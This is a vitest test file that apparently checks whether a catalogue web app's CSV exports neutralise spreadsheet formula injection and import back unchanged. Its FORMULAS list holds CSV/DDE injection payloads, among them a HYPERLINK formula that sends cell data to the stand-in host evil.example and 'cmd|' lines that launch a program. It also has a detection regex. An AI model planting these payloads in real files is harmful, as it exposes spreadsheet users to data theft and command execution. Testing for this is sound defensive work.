import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'
import { describe, expect, it, beforeAll } from 'vitest'
import { CATALOGUE_KINDS, type CatalogueKind } from '../../../schemas/operator-catalogue.ts'
import type { CatalogueImportReport } from '../../../schemas/operator-catalogue.ts'
import { neutraliseCell, restoreCell } from '../../../worker/lib/csv.ts'
import { backend } from '../../../worker/local-backend.ts'
import { testEnv } from '../auth/fixtures.ts'
import { type OperatorWorld, operatorCall, operatorWorld } from '../operator/fixtures.ts'

/*
 * No CSV the product writes carries a cell a spreadsheet would run (issue 36, item 7): exports
 * wrote `=HYPERLINK(…)`, `=cmd|…` and `@SUM(…)` raw from names an operator typed. Every export
 * kind, with formula-like text in every free-text column, and each export imports back unchanged.
 */

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+2',
  '-2+3',
  "'=already quoted",
]
const DANGEROUS = /^[=+\-@\t\r]/

let world: OperatorWorld
let ip = 0

async function upload(path: string, kind: CatalogueKind, csv: string, version?: string) {
  const form = new FormData()
  form.set('businessId', '1')
  form.set('kind', kind)
  if (version) form.set('version', version)
  form.set('file[]', new File([csv], 'upload', { type: 'text/csv' }))
  const res = await backend.request(
    path,
    {
      method: 'POST',
      headers: {
        authorization: `Bearer ${world.operator}`,
        'cf-connecting-ip': `198.51.109.${++ip}`,
      },
      body: form,
    },
    testEnv
  )
  return { status: res.status, json: (await res.json()) as CatalogueImportReport }
}

async function importFile(kind: CatalogueKind, rows: Array<Array<string>>): Promise<void> {
  // Written raw, as an attacker's own file would be.
  const csv = stringify(rows)
  const checked = await upload('/staff/operator/catalogue/import/check', kind, csv)
  expect(checked.json.errors ?? [], kind).toEqual([])
  const applied = await upload(
    '/staff/operator/catalogue/import/apply',
    kind,
    csv,
    checked.json.version
  )
  expect(applied.status, JSON.stringify(applied.json)).toBe(200)
}

async function exported(kind: CatalogueKind): Promise<string> {
  const answer = await operatorCall('/staff/operator/catalogue/export', { kind }, world.operator)
  expect(answer.status).toBe(200)
  return (answer.json as { csv: string }).csv
}

beforeAll(async () => {
  world = await operatorWorld()
  const text = (i: number) => FORMULAS[i % FORMULAS.length] ?? ''
  await importFile('categories', [
    ['slug', 'name', 'description'],
    ...FORMULAS.map((formula, i) => [`formula-cat-${i}`, formula, text(i + 1)]),
  ])
  await importFile('items', [
    ['slug', 'name', 'category', 'price', 'size', 'description', 'ingredients'],
    ...FORMULAS.map((formula, i) => [
      `formula-item-${i}`,
      formula,
      'formula-cat-0',
      '1.00',
      text(i + 1),
      text(i + 2),
      text(i + 3),
    ]),
  ])
  await importFile('options', [
    ['item', 'option', 'value', 'placeholder', 'min', 'max'],
    ...FORMULAS.map((formula, i) => [
      'formula-item-0',
      text(i + 1),
      formula,
      text(i + 2),
      '0',
      '1',
    ]),
  ])
}, 30_000)

describe('every CSV export', () => {
  it('writes no cell a spreadsheet would run as a formula', async () => {
    const dangerous: Array<string> = []
    for (const kind of CATALOGUE_KINDS) {
      const [, ...rows] = parse(await exported(kind)) as Array<Array<string>>
      for (const row of rows) {
        for (const cell of row) if (DANGEROUS.test(cell)) dangerous.push(`${kind}: ${cell}`)
      }
    }
    expect(dangerous).toEqual([])
  })

  it('keeps what was typed: each export imports back unchanged, formulas included', async () => {
    for (const kind of CATALOGUE_KINDS) {
      const csv = await exported(kind)
      const report = (await upload('/staff/operator/catalogue/import/check', kind, csv)).json
      expect({
        kind,
        errors: report.errors,
        created: report.created,
        updated: report.updated,
      }).toEqual({ kind, errors: [], created: 0, updated: 0 })
    }
    // What the import stored ("'=already quoted" read as an exported cell: "=already quoted").
    const items = parse(await exported('items'), { columns: true }) as Array<Record<string, string>>
    const names = items
      .filter((row) => row.slug?.startsWith('formula-item-'))
      .map((row) => row.name)
    expect(names.map((name) => restoreCell(name ?? '')).sort()).toEqual(
      FORMULAS.map(restoreCell).sort()
    )
  })

  it('neutralises a tab or carriage return before a formula too, and restores every cell', () => {
    for (const value of ['\t=1+1', '\r=1+1', "''=x", '=', 'plain', '', "it's", '3-2']) {
      expect(DANGEROUS.test(neutraliseCell(value)), value).toBe(false)
      expect(restoreCell(neutraliseCell(value))).toBe(value)
    }
  })
})
